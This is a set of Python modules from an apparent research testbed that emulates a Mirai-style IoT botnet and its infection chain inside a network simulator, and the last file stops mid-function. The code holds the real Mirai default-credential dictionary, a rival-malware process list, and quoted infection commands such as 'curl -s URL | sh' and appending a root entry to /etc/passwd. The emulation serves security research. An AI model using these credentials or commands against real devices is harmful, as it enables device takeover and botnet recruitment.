        self.faults = tuple(
            spec if isinstance(spec, FaultSpec) else FaultSpec(**spec)
            for spec in self.faults
        )
        if self.intensity < 0:
            raise FaultPlanError("intensity must be >= 0")

    def scaled(self, intensity: float) -> "FaultPlan":
        """The same plan at a different intensity (specs shared)."""
        return replace(self, intensity=intensity)

    # ------------------------------------------------------------------
    # (De)serialization
    # ------------------------------------------------------------------
    def to_dict(self) -> Dict:
        spec_dicts = []
        for spec in self.faults:
            data = {}
            for spec_field in fields(FaultSpec):
                value = getattr(spec, spec_field.name)
                if isinstance(value, tuple):
                    value = list(value)
                data[spec_field.name] = value
            spec_dicts.append(data)
        return {"faults": spec_dicts, "intensity": self.intensity}

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent, sort_keys=True)

    @classmethod
    def from_dict(cls, data: Dict) -> "FaultPlan":
        if not isinstance(data, dict):
            raise FaultPlanError(f"fault plan must be an object, got {type(data).__name__}")
        known = {"faults", "intensity"}
        unknown = set(data) - known
        if unknown:
            raise FaultPlanError(f"unknown fault plan fields: {sorted(unknown)}")
        spec_names = {spec_field.name for spec_field in fields(FaultSpec)}
        specs = []
        for entry in data.get("faults", ()):
            payload = dict(entry)
            bad = set(payload) - spec_names
            if bad:
                raise FaultPlanError(f"unknown fault spec fields: {sorted(bad)}")
            if "phi" in payload:
                payload["phi"] = tuple(payload["phi"])
            specs.append(FaultSpec(**payload))
        return cls(faults=tuple(specs), intensity=data.get("intensity", 1.0))

    @classmethod
    def from_json(cls, text: str) -> "FaultPlan":
        return cls.from_dict(json.loads(text))


def load_fault_plan(path: str) -> FaultPlan:
    """Read a JSON fault plan from disk (the ``--faults`` knob)."""
    with open(path, encoding="utf-8") as handle:
        return FaultPlan.from_json(handle.read())


class FaultInjector:
    """Arms one :class:`FaultPlan` against one ``DDoSim`` run.

    All randomness (target sampling, arming draws, start jitter, degraded
    medium loss) comes from streams seeded off the run seed, so the fault
    event sequence — recorded in :attr:`log` — replays exactly for the
    same (plan, seed) pair.
    """

    def __init__(self, ddosim, plan: FaultPlan, seed: int):
        self.ddosim = ddosim
        self.plan = plan
        self.seed = seed
        self.rng = random.Random(f"{seed}-faults")
        #: RNG the degraded channels draw medium loss from
        self._loss_rng = random.Random(f"{seed}-faults-loss")
        self.log: List[FaultEvent] = []
        self.injected = 0
        #: churn models instantiated from ``churn`` specs (the framework
        #: folds these into its ChurnSummary)
        self.static_churn = None
        self.dynamic_churn = None
        self._armed = False
        #: sharded engine (repro.netsim.shard): on replica ranks the
        #: injector's events are *neutral* — every rank replays the same
        #: schedule and log (state-free draws happen at arm() time), but
        #: replicated events subtract themselves from events_executed so
        #: only the primary rank's count survives the merge.
        self.event_neutral = False
        #: sharded engine: ``action_gate(kind, target_name) -> bool``
        #: decides whether THIS rank performs a gated kind's state
        #: mutation (container stop/restart, C&C kill, sink stall).  The
        #: record/log always replays on every rank; only the mutation is
        #: owner-gated.  None (single-process) performs everything.
        self.action_gate = None

    def checkpoint_state(self) -> dict:
        """Deterministic injection progress for checkpoint fingerprints
        (the RNG streams themselves are hashed by the framework)."""
        return {
            "injected": self.injected,
            "armed": self._armed,
            "log": [
                [event.time, event.kind, event.target, event.action]
                for event in self.log
            ],
        }

    # ------------------------------------------------------------------
    # Target resolution
    # ------------------------------------------------------------------
    def _links(self) -> List[Tuple[str, object]]:
        ddosim = self.ddosim
        named = [(dev.name, dev.link) for dev in ddosim.devs.devs]
        named.append(("attacker", ddosim.attacker.link))
        named.append(("tserver", ddosim.tserver.link))
        return named

    def _containers(self) -> List[Tuple[str, object]]:
        ddosim = self.ddosim
        named = [(dev.name, dev.container) for dev in ddosim.devs.devs]
        if ddosim.attacker.container is not None:
            named.append(("attacker", ddosim.attacker.container))
        return named

    def _resolve(self, spec: FaultSpec) -> List[Tuple[str, object]]:
        if spec.kind in _LINK_KINDS:
            candidates = self._links()
        elif spec.kind in _CONTAINER_KINDS:
            candidates = self._containers()
        else:  # service faults and churn act on one implicit target
            return [(spec.kind, None)]
        matches = [
            (name, obj) for name, obj in candidates
            if fnmatch.fnmatchcase(name, spec.target)
        ]
        if spec.pick is not None and spec.pick < len(matches):
            matches = self.rng.sample(matches, spec.pick)
        return matches

    # ------------------------------------------------------------------
    # Arming
    # ------------------------------------------------------------------
    def arm(self) -> None:
        """Schedule every armed fault occurrence; call once, after build.

        The RNG stream is consumed in spec order then target order, which
        is what makes the schedule a pure function of (plan, seed).
        """
        if self._armed:
            raise RuntimeError("fault plan already armed")
        self._armed = True
        sim = self.ddosim.sim
        for spec in self.plan.faults:
            if spec.kind == FAULT_CHURN:
                self._arm_churn(spec)
                continue
            for name, obj in self._resolve(spec):
                probability = spec.probability * self.plan.intensity
                if probability <= 0.0:
                    continue
                if probability < 1.0 and self.rng.random() >= probability:
                    continue
                start = spec.at
                if spec.jitter > 0.0:
                    start += self.rng.random() * spec.jitter
                for repetition in range(spec.count):
                    at = start + repetition * spec.period
                    sim.schedule_at(max(at, 0.0), self._inject, spec, name, obj)

    def _arm_churn(self, spec: FaultSpec) -> None:
        """Instantiate the paper's churn model from a fault spec.

        Seeds and scheduling mirror :class:`repro.core.framework.DDoSim`
        exactly, so a one-churn-fault plan reproduces ``config.churn``
        runs bit-for-bit.
        """
        from repro.core.churn import DynamicChurn, StaticChurn

        ddosim = self.ddosim
        if self.plan.intensity <= 0.0:
            return
        churn_rng = random.Random(f"{self.seed}-churn")
        if spec.mode == "static":
            self.static_churn = StaticChurn(
                ddosim.config.n_devs, churn_rng, tuple(spec.phi)
            )
            if self.event_neutral:
                def apply_neutral() -> None:
                    ddosim.sim.events_executed -= 1
                    self.static_churn.apply(
                        ddosim.sim, ddosim.devs.set_device_online
                    )
                ddosim.sim.schedule(0.05, apply_neutral)
            else:
                ddosim.sim.schedule(
                    0.05,
                    self.static_churn.apply,
                    ddosim.sim,
                    ddosim.devs.set_device_online,
                )
        else:
            self.dynamic_churn = DynamicChurn(
                ddosim.config.n_devs,
                churn_rng,
                interval=spec.interval,
                rejoin_probability=spec.rejoin_probability,
                phi=tuple(spec.phi),
            )
            self.dynamic_churn.start(
                ddosim.sim,
                ddosim.devs.set_device_online,
                until=ddosim.config.sim_duration,
                neutral=self.event_neutral,
            )

    # ------------------------------------------------------------------
    # Injection / clearing
    # ------------------------------------------------------------------
    def _record(self, spec: FaultSpec, name: str, action: str) -> None:
        sim = self.ddosim.sim
        self.log.append(FaultEvent(sim.now, spec.kind, name, action))
        # Any fault event is a rate-change epoch for the fluid datapath:
        # close the pre-fault segment before the mutation lands (the
        # device/channel hooks re-solve again after it).
        if sim.flows is not None:
            sim.flows.relinearize()
        obs = sim.obs
        if action == "inject":
            self.injected += 1
            # Registered lazily so an empty plan leaves metric snapshots
            # byte-identical to a plain run.
            obs.metrics.counter(
                "faults_injected_total",
                help="faults injected, by kind",
                labels=("kind",),
            ).labels(spec.kind).inc()
        if obs.tracer.enabled:
            obs.tracer.emit(f"fault.{action}", sim.now, kind=spec.kind, target=name)
        recorder = obs.recorder
        if recorder.enabled:
            recorder.note(f"fault.{action}", sim.now, fault=spec.kind, target=name)
            if action == "inject":
                # Every injection force-dumps the flight recorder: the
                # dump captures the pre-fault run-up plus the metric
                # delta since the previous dump.
                recorder.dump(f"fault.{spec.kind}", sim.now, target=name)

    def _acts(self, kind: str, name: str) -> bool:
        """Whether THIS rank performs the state mutation for a fault.

        Link-kind faults mutate replicated topology state and always act;
        gated kinds (containers, C&C, sink) act only where the target is
        owned.  The schedule, log, and clear events replay identically on
        every rank regardless — only the mutation itself is skipped."""
        if self.action_gate is None or kind not in _GATED_KINDS:
            return True
        return self.action_gate(kind, name)

    def _inject(self, spec: FaultSpec, name: str, obj) -> None:
        if self.event_neutral:
            self.ddosim.sim.events_executed -= 1
        self._record(spec, name, "inject")
        sim = self.ddosim.sim
        kind = spec.kind
        acts = self._acts(kind, name)
        if kind in (FAULT_LINK_DOWN, FAULT_LINK_FLAP):
            obj.set_admin_up(False)
            if spec.duration > 0:
                sim.schedule(spec.duration, self._clear, spec, name, obj)
        elif kind == FAULT_PARTITION:
            obj.set_router_admin_up(False)
            if spec.duration > 0:
                sim.schedule(spec.duration, self._clear, spec, name, obj)
        elif kind == FAULT_LINK_DEGRADE:
            obj.channel.override_parameters(
                delay=spec.delay, loss_rate=spec.loss_rate, rng=self._loss_rng
            )
            if spec.data_rate_bps is not None:
                obj.host_device.override_data_rate(spec.data_rate_bps)
                obj.router_device.override_data_rate(spec.data_rate_bps)
            if spec.duration > 0:
                sim.schedule(spec.duration, self._clear, spec, name, obj)
        elif kind == FAULT_CRASH:
            if acts:
                self.ddosim.runtime.stop(obj)
        elif kind == FAULT_CRASH_RESTART:
            if acts:
                self.ddosim.runtime.stop(obj)
            sim.schedule(spec.restart_after, self._clear, spec, name, obj)
        elif kind == FAULT_MEMORY_KILL:
            if acts:
                victims = obj.live_processes()
                if victims:
                    max(victims, key=lambda p: (p.rss_bytes, p.pid)).kill()
        elif kind == FAULT_CNC_OUTAGE:
            if acts:
                attacker = self.ddosim.attacker
                if attacker.container is not None:
                    for process in attacker.container.find_processes("cnc"):
                        process.kill()
            if spec.duration > 0:
                sim.schedule(spec.duration, self._clear, spec, name, obj)
        elif kind == FAULT_SINK_STALL:
            if acts:
                self.ddosim.tserver.sink.stop()
            if spec.duration > 0:
                sim.schedule(spec.duration, self._clear, spec, name, obj)

    def _clear(self, spec: FaultSpec, name: str, obj) -> None:
        if self.event_neutral:
            self.ddosim.sim.events_executed -= 1
        self._record(spec, name, "clear")
        kind = spec.kind
        acts = self._acts(kind, name)
        if kind in (FAULT_LINK_DOWN, FAULT_LINK_FLAP):
            obj.set_admin_up(True)
        elif kind == FAULT_PARTITION:
            obj.set_router_admin_up(True)
        elif kind == FAULT_LINK_DEGRADE:
            obj.channel.clear_overrides()
            if spec.data_rate_bps is not None:
                obj.host_device.clear_data_rate_override()
                obj.router_device.clear_data_rate_override()
        elif kind == FAULT_CRASH_RESTART:
            if acts:
                self.ddosim.runtime.restart(obj)
        elif kind == FAULT_CNC_OUTAGE:
            if acts:
                attacker = self.ddosim.attacker
                if attacker.container is not None and attacker.container.state == "running":
                    attacker.container.exec_run(["/usr/sbin/cnc"])
        elif kind == FAULT_SINK_STALL:
            if acts:
                self.ddosim.tserver.sink.start()
