"""The emulated binary format ("ELF-ish") and its loader.

A :class:`BinaryImage` is what a compiled daemon *is* in this emulation:
name, version, target architecture, memory protections the build enables
(the paper's Devs "enable some subset of W^X and ASLR", §III-B), a build
seed that deterministically fixes the text-segment gadget layout, and a
``program_key`` naming the behaviour implementation in the program
registry.

Images serialize to real bytes (magic + JSON metadata + size padding), so
they can be COPY'd into container images, served over the emulated HTTP
file server, downloaded by ``curl`` into a victim's filesystem, and
``exec``'d there — the loader registered with
:mod:`repro.container.loaders` recognizes the magic and recovers the
behaviour.  This is how the Mirai binary travels in the infection chain.
"""

from __future__ import annotations

import json
import random
from typing import Callable, Dict, Optional, Sequence, Tuple

from repro.container import loaders
from repro.memsafety.aslr import slide_for
from repro.memsafety.layout import AddressSpace, standard_process_layout
from repro.memsafety.rop import ChainInterpreter, ExploitOutcome, GadgetTable

MAGIC = b"\x7fREPRO-ELF\n"

#: fixed text-segment offset of the leakable/legitimate return address;
#: attacker tooling (repro.services.exploits) uses the same constant to
#: turn a leaked pointer back into an ASLR slide.
STATIC_RET_OFFSET = 0x1234

#: program registry: key -> factory(binary) -> program(ctx) generator fn
_programs: Dict[str, Callable] = {}


def register_program(key: str, factory: Callable) -> None:
    """Register behaviour for binaries whose ``program_key`` is ``key``.

    ``factory(binary_image)`` must return a generator function
    ``program(ctx)`` suitable for :meth:`Container.exec_run`.
    """
    _programs[key] = factory


def lookup_program(key: str) -> Optional[Callable]:
    return _programs.get(key)


def report_hijack(ctx, program: str, succeeded: bool, reason=None) -> None:
    """Report a victim-side control-flow-hijack outcome to the run's
    observatory (``exploit.success``/``exploit.crash`` events plus the
    matching counter family).  Shared by every vulnerable daemon."""
    obs = ctx.sim.obs
    name = "exploit_success_total" if succeeded else "exploit_crashes_total"
    obs.metrics.counter(
        name, help="victim-side control-flow hijack outcomes, by program",
        labels=("program",),
    ).labels(program).inc()
    if obs.tracer.enabled:
        fields = {"program": program, "container": ctx.container.name}
        if reason is not None:
            fields["reason"] = str(reason)
        obs.tracer.emit(
            "exploit.success" if succeeded else "exploit.crash",
            ctx.sim.now, **fields,
        )
    spans = obs.spans
    if spans.enabled:
        address = str(ctx.netns.address())
        # Parent under the attacker-/scanner-side exploit span when span
        # tracking saw the payload leave; an orphan outcome (e.g. a unit
        # test poking the daemon directly) becomes its own root.
        outcome = spans.start(
            "exploit.outcome", ctx.sim.now, entity=ctx.container.name,
            parent=spans.lookup(("exploit", address)), program=program,
        )
        extra = {"reason": str(reason)} if reason is not None else {}
        spans.end(outcome, ctx.sim.now,
                  status="hijacked" if succeeded else "crashed", **extra)
        if succeeded:
            # The C&C recruit span for this address parents under the
            # hijack that planted the bot.
            spans.bind(("recruit", address), outcome)


class BinaryImage:
    """An emulated compiled binary."""

    def __init__(
        self,
        name: str,
        version: str,
        program_key: str,
        architecture: str = "x86_64",
        protections: Sequence[str] = ("wx",),
        build_seed: int = 1,
        text_base: int = 0x400000,
        text_size: int = 0x40000,
        file_size: int = 64 * 1024,
        rss_bytes: int = 3 * 1024 * 1024,
        vulnerable: bool = True,
    ):
        unknown = set(protections) - {"wx", "aslr"}
        if unknown:
            raise ValueError(f"unknown protections: {sorted(unknown)}")
        self.name = name
        self.version = version
        self.program_key = program_key
        self.architecture = architecture
        self.protections = frozenset(protections)
        self.build_seed = build_seed
        self.text_base = text_base
        self.text_size = text_size
        self.file_size = file_size
        self.rss_bytes = rss_bytes
        self.vulnerable = vulnerable

    # ------------------------------------------------------------------
    # Protections
    # ------------------------------------------------------------------
    @property
    def wx_enabled(self) -> bool:
        return "wx" in self.protections

    @property
    def aslr_enabled(self) -> bool:
        return "aslr" in self.protections

    # ------------------------------------------------------------------
    # Attacker-visible analysis surface
    # ------------------------------------------------------------------
    def gadget_table(self) -> GadgetTable:
        """Offline gadget discovery — identical for attacker and victim
        because both analyze the same build (same seed)."""
        return GadgetTable.discover(self.build_seed, self.text_base, self.text_size)

    # ------------------------------------------------------------------
    # Serialization (real bytes on the wire / in filesystems)
    # ------------------------------------------------------------------
    def metadata_dict(self) -> dict:
        """The JSON-able description embedded in the serialized image."""
        return {
            "name": self.name,
            "version": self.version,
            "program_key": self.program_key,
            "architecture": self.architecture,
            "protections": sorted(self.protections),
            "build_seed": self.build_seed,
            "text_base": self.text_base,
            "text_size": self.text_size,
            "file_size": self.file_size,
            "rss_bytes": self.rss_bytes,
            "vulnerable": self.vulnerable,
        }

    @classmethod
    def from_metadata(cls, metadata: dict) -> "BinaryImage":
        return cls(
            name=metadata["name"],
            version=metadata["version"],
            program_key=metadata["program_key"],
            architecture=metadata["architecture"],
            protections=metadata["protections"],
            build_seed=metadata["build_seed"],
            text_base=metadata["text_base"],
            text_size=metadata["text_size"],
            file_size=metadata["file_size"],
            rss_bytes=metadata["rss_bytes"],
            vulnerable=metadata["vulnerable"],
        )

    def serialize(self) -> bytes:
        metadata = json.dumps(self.metadata_dict()).encode()
        blob = MAGIC + len(metadata).to_bytes(4, "big") + metadata
        if len(blob) < self.file_size:
            blob += b"\x00" * (self.file_size - len(blob))
        return blob

    @classmethod
    def parse(cls, data: bytes) -> "BinaryImage":
        if not data.startswith(MAGIC):
            raise ValueError("not a REPRO-ELF image")
        length = int.from_bytes(data[len(MAGIC): len(MAGIC) + 4], "big")
        start = len(MAGIC) + 4
        metadata = json.loads(data[start: start + length].decode())
        return cls.from_metadata(metadata)

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        protections = ",".join(sorted(self.protections)) or "none"
        return (
            f"<BinaryImage {self.name}-{self.version} [{self.architecture}] "
            f"prot={protections} {'VULN' if self.vulnerable else 'patched'}>"
        )


class BinaryRuntime:
    """A binary *loaded into a process*: slide, mappings, hijack handling.

    Created when a daemon starts; owns the per-process ASLR draw and the
    address space, and adjudicates what an overflow achieves.
    """

    def __init__(self, image: BinaryImage, rng: random.Random):
        self.image = image
        self.slide = slide_for(image.aslr_enabled, rng)
        self.address_space: AddressSpace = standard_process_layout(
            image.text_base + self.slide,
            image.text_size,
            wx_enforced=image.wx_enabled,
        )
        self.gadgets = image.gadget_table()
        self._interpreter = ChainInterpreter(self.gadgets, self.slide, self.address_space)
        #: a stable legitimate return address inside text (used both as
        #: the frame's pristine value and as the leakable pointer)
        self.legitimate_return_address = image.text_base + self.slide + STATIC_RET_OFFSET

    @property
    def runtime_text_base(self) -> int:
        return self.image.text_base + self.slide

    def leak_code_pointer(self) -> int:
        """The info-leak primitive: a text-segment pointer an error path
        discloses (modelling English et al.'s leak stage).  The attacker
        recovers ``slide = leaked - static``."""
        return self.legitimate_return_address

    def run_hijacked(self, return_address: int, spill: bytes) -> ExploitOutcome:
        """Let control flow go wherever the overflow pointed it."""
        return self._interpreter.run(return_address, spill)


def binary_loader(data: bytes) -> Optional[Tuple[Callable, str, int]]:
    """Container-runtime loader for REPRO-ELF bytes (see
    :mod:`repro.container.loaders`)."""
    if not data.startswith(MAGIC):
        return None
    image = BinaryImage.parse(data)
    factory = lookup_program(image.program_key)
    if factory is None:
        raise ValueError(
            f"binary {image.name!r} references unregistered program "
            f"{image.program_key!r}"
        )
    return factory(image), image.name, image.rss_bytes


# Register at import: any container can exec downloaded REPRO-ELF bytes.
loaders.register_loader(binary_loader)
