"""Busybox-style applets: the extra userland Devs may run.

Mirai "attempts to kill processes associated with other DDoS variants and
processes bound to port 22 or 23 (TCP) to fortify itself" (§III-A).  To
exercise that behaviour the Dev images can include:

* ``telnetd`` — a trivial telnet banner service bound to TCP 23 (what
  stock IoT firmware ships; Mirai's victim);
* ``dropbear`` — an SSH stand-in on TCP 22;
* a ``qbot`` stand-in — a rival DDoS bot (recognized by process name).
"""

from __future__ import annotations

from repro.binaries.binfmt import BinaryImage, register_program
from repro.netsim.process import ProcessKilled, SimProcess


def _banner_service(port: int, banner: bytes, name: str):
    """A service that accepts TCP connections and sends a banner."""

    def service(ctx):
        server = ctx.netns.tcp_listen(port)
        ctx.bind_port_marker(port)

        def session(sock):
            sock.send(banner)
            yield sock.recv()  # wait for anything, then hang up
            sock.close()

        try:
            while True:
                sock = yield server.accept()
                SimProcess(ctx.sim, session(sock), name=f"{name}-session")
        except ProcessKilled:
            raise
        finally:
            ctx.release_port_marker(port)
            server.close()

    return service


def telnetd_program(image: BinaryImage):
    return _banner_service(23, b"BusyBox v1.21 built-in shell\r\nlogin: ", "telnetd")


def dropbear_program(image: BinaryImage):
    return _banner_service(22, b"SSH-2.0-dropbear_2014.63\r\n", "dropbear")


def qbot_program(image: BinaryImage):
    """A rival DDoS bot stand-in: it just exists (and gets killed)."""

    def qbot(ctx):
        while True:
            yield ctx.sleep(60.0)

    return qbot


register_program("telnetd", telnetd_program)
register_program("dropbear", dropbear_program)
register_program("qbot", qbot_program)

#: process names Mirai's killer treats as rival DDoS malware
RIVAL_PROCESS_NAMES = ("qbot", ".anime", "zollard", "remaiten")


def make_telnetd_binary() -> BinaryImage:
    return BinaryImage(
        name="telnetd",
        version="1.21",
        program_key="telnetd",
        file_size=24 * 1024,
        rss_bytes=512 * 1024,
        vulnerable=False,
    )


def make_dropbear_binary() -> BinaryImage:
    return BinaryImage(
        name="dropbear",
        version="2014.63",
        program_key="dropbear",
        file_size=110 * 1024,
        rss_bytes=768 * 1024,
        vulnerable=False,
    )


def make_qbot_binary() -> BinaryImage:
    return BinaryImage(
        name="qbot",
        version="0.1",
        program_key="qbot",
        file_size=48 * 1024,
        rss_bytes=640 * 1024,
        vulnerable=False,
    )
