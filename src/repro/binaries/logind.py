"""A credential-checking telnet daemon with a remote shell — the classic
Mirai attack surface.

The paper's framing (abstract, §I): "Unlike the Mirai attack, which
relies on default credentials, these experiments exploit memory error
vulnerabilities."  To *compare* the two recruitment vectors inside the
same testbed, Devs can run this busybox-style telnetd: it authenticates
against the device's configured credentials (``$TELNET_USER`` /
``$TELNET_PASS`` in the container env) and gives authenticated peers a
shell that executes commands through :mod:`repro.binaries.shell` — so a
dictionary-attack loader can log in and run the very same
``curl | sh``-style infection the ROP chain triggers.
"""

from __future__ import annotations

from repro.binaries.binfmt import BinaryImage, register_program
from repro.binaries.shell import ShellError, run_pipeline
from repro.netsim.process import ProcessKilled, SimProcess

TELNET_PORT = 23
MAX_LOGIN_ATTEMPTS = 3

#: the factory-default credential pairs the Mirai dictionary leads with
DEFAULT_CREDENTIALS = (
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("root", "admin"),
    ("admin", "admin"),
    ("root", "888888"),
    ("root", "default"),
    ("support", "support"),
)


def login_telnetd_program(image: BinaryImage):
    """Program factory registered for ``program_key='login-telnetd'``."""

    def telnetd(ctx):
        username = ctx.container.env.get("TELNET_USER", "root")
        password = ctx.container.env.get("TELNET_PASS", "xc3511")
        server = ctx.netns.tcp_listen(TELNET_PORT)
        ctx.bind_port_marker(TELNET_PORT)
        try:
            while True:
                sock = yield server.accept()
                SimProcess(
                    ctx.sim,
                    _session(ctx, sock, username, password),
                    name="telnetd-session",
                )
        except ProcessKilled:
            raise
        finally:
            ctx.release_port_marker(TELNET_PORT)
            server.close()

    return telnetd


def _session(ctx, sock, username: str, password: str):
    try:
        authenticated = False
        for _attempt in range(MAX_LOGIN_ATTEMPTS):
            sock.send(b"login: ")
            user = yield from sock.read_line()
            if user is None:
                return
            sock.send(b"password: ")
            secret = yield from sock.read_line()
            if secret is None:
                return
            if user.decode() == username and secret.decode() == password:
                authenticated = True
                break
            sock.send_line("Login incorrect")
        if not authenticated:
            return
        sock.send_line("BusyBox v1.21 built-in shell (ash)")
        sock.send(b"$ ")
        while True:
            line = yield from sock.read_line()
            if line is None:
                return
            command = line.decode("utf-8", "replace").strip()
            if command in ("exit", "logout"):
                sock.send_line("bye")
                return
            if command:
                try:
                    stdout = yield from run_pipeline(ctx, command)
                except ShellError as error:
                    stdout = f"{error}\n".encode()
                if stdout:
                    sock.send(stdout)
            sock.send(b"$ ")
    except ConnectionError:
        return
    finally:
        sock.close()


register_program("login-telnetd", login_telnetd_program)


def make_login_telnetd_binary() -> BinaryImage:
    return BinaryImage(
        name="telnetd",
        version="1.21-login",
        program_key="login-telnetd",
        file_size=26 * 1024,
        rss_bytes=512 * 1024,
        vulnerable=False,
    )
