"""repro.binaries — emulated IoT userland: daemons, shell, busybox.

The paper loads each Dev's container with a real ``connman`` or
``dnsmasq`` binary — "widely common binaries in IoT devices" carrying
known stack-overflow CVEs — plus enough userland (``sh``, ``curl``) for
the infection one-liner to work.  This package provides the emulated
equivalents:

* :mod:`repro.binaries.binfmt` — an "ELF-ish" binary image format with
  architecture, version, protection flags (W^X/ASLR) and a build seed
  that fixes the gadget layout; plus the loader that lets containers
  execute binaries that arrived over the network as bytes.
* :mod:`repro.binaries.connman` — the ConnMan analogue: a DNS-proxying
  network manager whose response parser has the CVE-2017-12865-shaped
  unchecked copy.
* :mod:`repro.binaries.dnsmasq` — the Dnsmasq analogue: a DHCPv6 server
  whose RELAYFORW handler has the CVE-2017-14493-shaped unchecked copy.
* :mod:`repro.binaries.shell` — ``/bin/sh`` with pipelines plus ``curl``,
  ``chmod``, ``rm`` ... (everything the infection script needs).
"""

from repro.binaries.binfmt import (
    BinaryImage,
    BinaryRuntime,
    binary_loader,
    register_program,
)

# Import the daemon/userland modules for their side effect: registering
# their programs so any container can execute these binaries' bytes.
from repro.binaries import busybox as _busybox  # noqa: F401
from repro.binaries import connman as _connman  # noqa: F401
from repro.binaries import dnsmasq as _dnsmasq  # noqa: F401
from repro.binaries.connman import make_connman_binary
from repro.binaries.dnsmasq import make_dnsmasq_binary

__all__ = [
    "BinaryImage",
    "BinaryRuntime",
    "binary_loader",
    "make_connman_binary",
    "make_dnsmasq_binary",
    "register_program",
]
