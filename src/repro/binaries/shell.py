"""``/bin/sh`` and friends: the victim userland the infection rides on.

The ROP chain's ``execlp("sh", "sh", "-c", "curl -s URL | sh")`` needs a
shell with pipelines and a ``curl``; the downloaded infection script then
needs ``chmod`` and background execution (``&``).  The paper's "useful
insights" section even calls out that the attack lives off ``curl``
("firmware vendors may choose not to allow or install the curl command"),
so shells can be built *without* curl to model that defense — see
:func:`make_shell_program`'s ``allow_curl`` switch and the corresponding
ablation benchmark.

Supported syntax: one command per line, ``|`` pipelines, trailing ``&``
for background, ``#`` comments, ``$VAR`` expansion (from the container
env plus the built-in ``$ARCH``).  Built-ins: ``curl``, ``chmod``,
``rm``, ``echo``, ``sleep``, ``uname``, ``sh``.  Anything else resolves
as an executable path in the container filesystem.
"""

from __future__ import annotations

import re
import shlex
from typing import List, Optional

from repro.netsim.address import AddressError, Ipv4Address, Ipv6Address
from repro.services.http import HttpError, http_get

_URL_RE = re.compile(r"^http://(\[[^\]]+\]|[^/:]+)(?::(\d+))?(/.*)?$")
_VAR_RE = re.compile(r"\$(\w+)")


class ShellError(RuntimeError):
    """A command failed; the shell aborts the script (set -e semantics)."""


def parse_url(url: str):
    """Split ``http://host[:port]/path`` into (address, port, path)."""
    match = _URL_RE.match(url)
    if match is None:
        raise ShellError(f"curl: malformed URL {url!r}")
    host, port_text, path = match.groups()
    host = host.strip("[]")
    try:
        address = Ipv6Address.parse(host) if ":" in host else Ipv4Address.parse(host)
    except AddressError as error:
        raise ShellError(f"curl: cannot resolve {host!r}: {error}") from None
    return address, int(port_text) if port_text else 80, path or "/"


def expand_variables(text: str, ctx) -> str:
    """Expand ``$VAR`` from the container env (plus ``$ARCH``)."""
    values = dict(ctx.container.env)
    values.setdefault("ARCH", ctx.container.image.architecture)

    def replace(match: re.Match) -> str:
        return values.get(match.group(1), "")

    return _VAR_RE.sub(replace, text)


def run_script(ctx, text: str, allow_curl: bool = True):
    """Generator: run a multi-line script; returns final stdout bytes."""
    stdout = b""
    for raw_line in text.splitlines():
        line = raw_line.strip()
        if not line or line.startswith("#"):
            continue
        stdout = yield from run_pipeline(ctx, line, allow_curl=allow_curl)
    return stdout


def run_pipeline(ctx, line: str, allow_curl: bool = True):
    """Generator: run one (possibly piped, possibly backgrounded) line.

    Supports trailing output redirection (``>`` truncate / ``>>`` append)
    on the final stage — the infection scripts use it to plant backdoor
    credentials (``echo root:hax >> /etc/passwd``).
    """
    background = line.endswith("&")
    if background:
        line = line[:-1].rstrip()
    stages = [stage.strip() for stage in line.split("|")]
    stdin = b""
    redirect_path = None
    redirect_append = False
    for index, stage in enumerate(stages):
        argv = shlex.split(expand_variables(stage, ctx))
        if not argv:
            raise ShellError(f"empty pipeline stage in {line!r}")
        last = index == len(stages) - 1
        if last and len(argv) >= 2 and argv[-2] in (">", ">>"):
            redirect_append = argv[-2] == ">>"
            redirect_path = argv[-1]
            argv = argv[:-2]
            if not argv:
                raise ShellError(f"redirection without a command in {line!r}")
        stdin = yield from run_command(
            ctx,
            argv,
            stdin,
            background=background and last,
            allow_curl=allow_curl,
        )
    if redirect_path is not None:
        if redirect_append:
            ctx.fs.append(redirect_path, stdin)
        else:
            ctx.fs.write_file(redirect_path, stdin, mtime=ctx.sim.now)
        return b""
    return stdin


def run_command(ctx, argv: List[str], stdin: bytes, background: bool = False,
                allow_curl: bool = True):
    """Generator: dispatch one command; returns its stdout bytes."""
    name = argv[0].rsplit("/", 1)[-1]
    if name == "curl":
        if not allow_curl:
            raise ShellError("curl: not found")  # the vendor-hardened image
        return (yield from _builtin_curl(ctx, argv[1:]))
    if name == "chmod":
        return _builtin_chmod(ctx, argv[1:])
    if name == "rm":
        return _builtin_rm(ctx, argv[1:])
    if name == "echo":
        return (" ".join(argv[1:]) + "\n").encode()
    if name == "uname":
        return (ctx.container.image.architecture + "\n").encode()
    if name == "sleep":
        yield ctx.sleep(float(argv[1]) if len(argv) > 1 else 1.0)
        return b""
    if name == "sh":
        return (yield from _builtin_sh(ctx, argv[1:], stdin, allow_curl))
    # Not a builtin: execute a container binary.
    return (yield from _exec_binary(ctx, argv, background))


# ----------------------------------------------------------------------
# Built-ins
# ----------------------------------------------------------------------
def _builtin_curl(ctx, args: List[str]):
    silent = False
    output: Optional[str] = None
    url: Optional[str] = None
    index = 0
    while index < len(args):
        arg = args[index]
        if arg == "-s":
            silent = True
        elif arg == "-o":
            index += 1
            if index >= len(args):
                raise ShellError("curl: -o needs a file")
            output = args[index]
        elif arg.startswith("-"):
            raise ShellError(f"curl: unsupported option {arg!r}")
        else:
            url = arg
        index += 1
    if url is None:
        raise ShellError("curl: no URL")
    if ctx.netns is None:
        raise ShellError("curl: network is unreachable")
    address, port, path = parse_url(url)
    try:
        response = yield from http_get(ctx.netns, address, port, path)
    except (HttpError, ConnectionError, OSError) as error:
        raise ShellError(f"curl: {error}") from None
    if not response.ok:
        if silent:
            return b""
        raise ShellError(f"curl: HTTP {response.status}")
    if output is not None:
        ctx.fs.write_file(output, response.body, mode=0o644, mtime=ctx.sim.now)
        return b""
    return response.body


def _builtin_chmod(ctx, args: List[str]) -> bytes:
    if len(args) != 2:
        raise ShellError("chmod: usage: chmod MODE FILE")
    mode_text, path = args
    try:
        entry = ctx.fs.entry(path)
    except OSError as error:
        raise ShellError(f"chmod: {error}") from None
    if mode_text == "+x":
        entry.mode |= 0o111
    else:
        try:
            entry.mode = int(mode_text, 8)
        except ValueError:
            raise ShellError(f"chmod: bad mode {mode_text!r}") from None
    return b""


def _builtin_rm(ctx, args: List[str]) -> bytes:
    force = False
    paths = []
    for arg in args:
        if arg == "-f":
            force = True
        else:
            paths.append(arg)
    for path in paths:
        try:
            ctx.fs.remove(path)
        except OSError:
            if not force:
